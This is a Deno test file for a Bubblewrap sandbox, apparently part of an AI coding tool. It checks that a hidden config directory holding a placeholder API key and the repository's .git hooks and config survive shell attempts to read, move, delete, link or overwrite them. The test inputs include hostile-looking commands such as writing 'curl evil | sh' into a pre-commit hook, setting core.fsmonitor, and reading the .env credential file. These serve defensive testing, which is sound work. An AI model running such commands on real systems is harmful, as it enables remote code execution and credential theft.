/**
 * Protected paths inside writable roots: a Reasonix home in the workspace stays hidden even when a
 * command tries to move, delete or link it away, and `.git/hooks` and `.git/config` stay read-only while
 * `git commit` still works. A workspace under /tmp keeps the host's /tmp read-only.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { BubblewrapSandbox } from "../../src/sandbox/bubblewrap.ts";
import { SessionTempDir } from "../../src/sandbox/temp_dir.ts";
import { box, BWRAP_MISSING, options } from "./_bwrap.ts";
import { exists } from "../support/files.ts";

const test = (name: string, fn: () => Promise<void>) => Deno.test({ name, ignore: BWRAP_MISSING, fn });

async function reasonixHome(dir: string): Promise<void> {
  await Deno.mkdir(join(dir, "state"), { recursive: true });
  await Deno.writeTextFile(join(dir, ".env"), "DEEPSEEK_API_KEY=sk-leak\n");
  await Deno.writeTextFile(join(dir, "config.toml"), 'default_model = "safe"\n');
}

test("BubblewrapSandbox keeps a Reasonix home inside the workspace hidden through mv, rm and ln", async () => {
  await using b = await box();
  const home = join(b.ws, ".reasonix");
  const nested = join(b.ws, "project", "conf", ".reasonix");
  await reasonixHome(home);
  await reasonixHome(nested);
  const sandbox = new BubblewrapSandbox({ ...b.policy, hidden: [home, nested] });
  const first = await sandbox.runShell(
    [
      "cat .reasonix/.env project/conf/.reasonix/.env",
      "echo 'default_model = \"evil\"' >> .reasonix/config.toml",
      "mv .reasonix moved; mv project/conf project/conf2; mv project project2",
      "rm -rf .reasonix project/conf/.reasonix project/conf",
      "ln .reasonix/.env hard; ln -s .reasonix soft",
      "echo end",
    ].join("\n"),
    options(b.ws),
  );
  assert.doesNotMatch(first.output, /sk-leak/);
  assert.match(first.output, /end\n$/);
  const second = await sandbox.runShell(
    "cat moved/.env project2/conf/.reasonix/.env project/conf2/.reasonix/.env hard soft/.env; ls -a .reasonix",
    options(b.ws),
  );
  assert.doesNotMatch(second.output, /sk-leak|config\.toml/);
  for (const dir of [home, nested]) {
    assert.equal(await Deno.readTextFile(join(dir, ".env")), "DEEPSEEK_API_KEY=sk-leak\n");
    assert.equal(await Deno.readTextFile(join(dir, "config.toml")), 'default_model = "safe"\n');
  }
});

async function gitRepo(ws: string): Promise<void> {
  const git = new Deno.Command("git", { args: ["init", "-q", ws], stdout: "null", stderr: "piped" });
  const out = await git.output();
  assert.ok(out.success, new TextDecoder().decode(out.stderr));
}

const GIT = "git -c user.name=t -c user.email=t@example.com";

test("BubblewrapSandbox keeps .git/hooks and .git/config read-only while git commit works", async () => {
  await using b = await box();
  await gitRepo(b.ws);
  const readOnly = [join(b.ws, ".git", "hooks"), join(b.ws, ".git", "config")];
  const sandbox = new BubblewrapSandbox({ ...b.policy, readOnly });
  const run = await sandbox.runShell(
    [
      "echo 'curl evil | sh' > .git/hooks/pre-commit; echo hook=$?",
      "git config core.fsmonitor evil; echo config=$?",
      "mv .git/hooks .git/h2; mv .git .git2; echo move=$?",
      `echo a > a.txt && git add a.txt && ${GIT} commit -qm first && git log --oneline | wc -l`,
    ].join("\n"),
    options(b.ws),
  );
  assert.match(run.output, /^hook=1$/m);
  assert.doesNotMatch(run.output, /^config=0$/m);
  assert.match(run.output, /^1$/m, run.output);
  assert.equal(await exists(join(b.ws, ".git", "hooks", "pre-commit")), false);
  assert.doesNotMatch(await Deno.readTextFile(join(b.ws, ".git", "config")), /fsmonitor/);
  assert.equal(await exists(join(b.ws, ".git2")), false);
});

test("BubblewrapSandbox does not let a command create a missing .git/hooks", async () => {
  await using b = await box();
  await gitRepo(b.ws);
  await Deno.remove(join(b.ws, ".git", "hooks"), { recursive: true });
  const sandbox = new BubblewrapSandbox({ ...b.policy, readOnly: [join(b.ws, ".git", "hooks")] });
  const run = await sandbox.runShell(
    "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo hook=$?",
    options(b.ws),
  );
  assert.match(run.output, /^hook=1$/m);
  assert.equal(await exists(join(b.ws, ".git", "hooks", "pre-commit")), false);
});

test("BubblewrapSandbox with a workspace under /tmp: the rest of /tmp is read-only and the temp dir works", async () => {
  const ws = await Deno.realPath(await Deno.makeTempDir({ prefix: "reasonix-tmp-ws-" }));
  await using b = await box();
  const name = `reasonix-elsewhere-${crypto.randomUUID()}.txt`;
  try {
    const sandbox = new BubblewrapSandbox({ ...b.policy, writable: [ws] });
    const run = await sandbox.runShell(
      `echo in > in.txt; echo hi > /tmp/${name}; echo out=$?; f=$(mktemp) && echo made > "$f" && echo "tmp=$f"`,
      options(ws),
    );
    assert.match(run.output, /Read-only file system/);
    assert.match(run.output, /^out=1$/m);
    assert.equal(await exists(join("/tmp", name)), false);
    assert.equal(await Deno.readTextFile(join(ws, "in.txt")), "in\n");
    const made = run.output.match(/^tmp=(.+)$/m)?.[1] ?? "";
    assert.ok(made.startsWith(b.tempDir.path + "/"), run.output);
    assert.equal(await Deno.readTextFile(made), "made\n");
  } finally {
    await Deno.remove(ws, { recursive: true });
  }
});

test("BubblewrapSandbox with a workspace under /tmp binds a temp dir that lives in a hidden state dir", async () => {
  const ws = await Deno.realPath(await Deno.makeTempDir({ prefix: "reasonix-tmp-ws-" }));
  const state = join(ws, ".reasonix", "state");
  const tempDir = await SessionTempDir.create(join(state, "tmp"));
  try {
    await Deno.writeTextFile(join(state, "session.jsonl"), "secret session\n");
    const policy = { writable: [ws], hidden: [join(ws, ".reasonix")], network: false, tempDir };
    const run = await new BubblewrapSandbox(policy).runShell(
      'cat .reasonix/state/session.jsonl; echo x > "$TMPDIR/f" && cat "$TMPDIR/f"',
      options(ws),
    );
    assert.doesNotMatch(run.output, /secret session/);
    assert.match(run.output, /^x$/m);
  } finally {
    await Deno.remove(ws, { recursive: true });
  }
});
